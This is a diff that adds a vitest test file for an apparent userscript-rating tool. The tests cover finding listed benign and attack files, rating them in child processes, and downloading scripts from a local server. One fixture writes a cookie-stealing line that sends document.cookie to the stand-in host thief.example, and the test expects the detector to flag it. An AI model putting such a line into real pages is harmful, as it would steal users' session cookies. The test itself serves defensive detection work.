@@ -1,0 +1,114 @@
+import { once } from "node:events";
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { downloadScripts } from "./download-scripts.ts";
+import { listed } from "./example.test-support.ts";
+import { findAny, findListed, pathOf } from "./find-files.ts";
+import { rateFiles } from "./rate-files.ts";
+
+let folder: string;
+
+beforeEach(() => {
+	folder = mkdtempSync(join(tmpdir(), "scriptorium-public-"));
+	mkdirSync(join(folder, "benign"));
+});
+afterEach(() => rmSync(folder, { recursive: true, force: true }));
+
+const put = (file: string, content: string): string => {
+	writeFileSync(join(folder, file), content);
+	return join(folder, file);
+};
+
+describe("the files of the list", () => {
+	it("are measured only with the listed content, and all others are named", () => {
+		put("benign/one.js", "void 1;");
+		put("benign/two.js", "void 'changed';");
+		const list = [listed("one", "void 1;"), listed("two", "void 2;"), listed("three", "void 3;", "attack")];
+		const { files, missing } = findListed(folder, list);
+		expect(files.map(({ id }) => id)).toEqual(["one"]);
+		expect(missing).toEqual(["benign/two: has other content than the list says", "attack/three: is not there"]);
+	});
+
+	it("of another folder are all below benign and attack", () => {
+		mkdirSync(join(folder, "attack/deep"), { recursive: true });
+		put("attack/deep/b.txt", "void 1;");
+		put("benign/a.user.js", "void 1;");
+		put("notes.txt", "void 1;");
+		expect(findAny(folder).map(({ verdict, id }) => `${verdict} ${id}`)).toEqual([
+			"benign a.user.js",
+			"attack deep/b.txt",
+		]);
+		expect(() => findAny(join(folder, "benign"))).toThrow("no files");
+	});
+});
+
+describe("rating in processes", () => {
+	it("answers in the order of the files, with levels, findings and reasons", async () => {
+		const paths = [
+			put("leak.js", "new Image().src = 'https://thief.example/?' + document.cookie;"),
+			put("quiet.js", "document.title = 'quiet';"),
+			put("broken.js", "var = ;"),
+		];
+		const ratings = await rateFiles(paths);
+		expect(ratings.map(({ level }) => level)).toEqual(["red", "green", "unrated"]);
+		expect(ratings[0]?.findings.map(({ type }) => type)).toContain("cookie-exfiltration");
+		expect(ratings[2]?.reason).toBe("its code could not be read.");
+	});
+
+	it("counts a file whose check ends its process as not rated, and goes on", async () => {
+		const script = put("process.mjs", "process.on('message', (path) => process.exit(path.includes('fatal') ? 3 : 4));");
+		const reasons = (await rateFiles(["fatal.js", "other.js", "fatal-too.js"], script)).map(({ reason }) => reason);
+		expect(reasons).toEqual([3, 4, 3].map((code) => `the check ended its process (${code}).`));
+	});
+});
+
+describe("downloading", () => {
+	let server: Server;
+	let base: string;
+	const asked: string[] = [];
+	const contents = new Map([
+		["one", "void 1;"],
+		["two", "void 'of another commit';"],
+	]);
+
+	beforeEach(async () => {
+		asked.length = 0;
+		server = createServer((request, answer) => {
+			asked.push(request.url ?? "");
+			const name = /(\w+)%231\.user\.js$/.exec(request.url ?? "")?.[1] ?? "";
+			const content = contents.get(name);
+			if (name === "moved") answer.writeHead(302, { location: "/one%231.user.js" }).end();
+			else if (content === undefined) answer.writeHead(404).end("Not found");
+			else answer.end(content);
+		});
+		await once(server.listen(0, "127.0.0.1"), "listening");
+		base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+	});
+	afterEach(() => server.close());
+
+	it("writes only files with the listed content and names all others", async () => {
+		const list = ["one", "two", "three", "moved"].map((id) => listed(id, id === "one" ? "void 1;" : "void 2;"));
+		const { written, problems } = await downloadScripts(folder, list, base);
+		expect(written).toBe(1);
+		expect(readFileSync(join(folder, "benign/one.js"), "utf8")).toBe("void 1;");
+		expect(problems.map((problem) => problem.replace(base, ""))).toEqual([
+			expect.stringMatching(/^two: .*other content/),
+			expect.stringMatching(/^three: .*answered 404$/),
+			expect.stringMatching(/^moved: .*could not be read/),
+		]);
+		expect(list.map((script) => existsSync(pathOf(folder, script)))).toEqual([true, false, false, false]);
+		expect(asked).toContain(
+			"/somebody/scripts/0123456789abcdef0123456789abcdef01234567/folder%20with%20spaces/one%231.user.js",
+		);
+	});
+
+	it("asks for nothing that is there", async () => {
+		put("benign/one.js", "void 1;");
+		expect(await downloadScripts(folder, [listed("one", "void 1;")], base)).toEqual({ written: 0, problems: [] });
+		expect(asked).toEqual([]);
+	});
+});
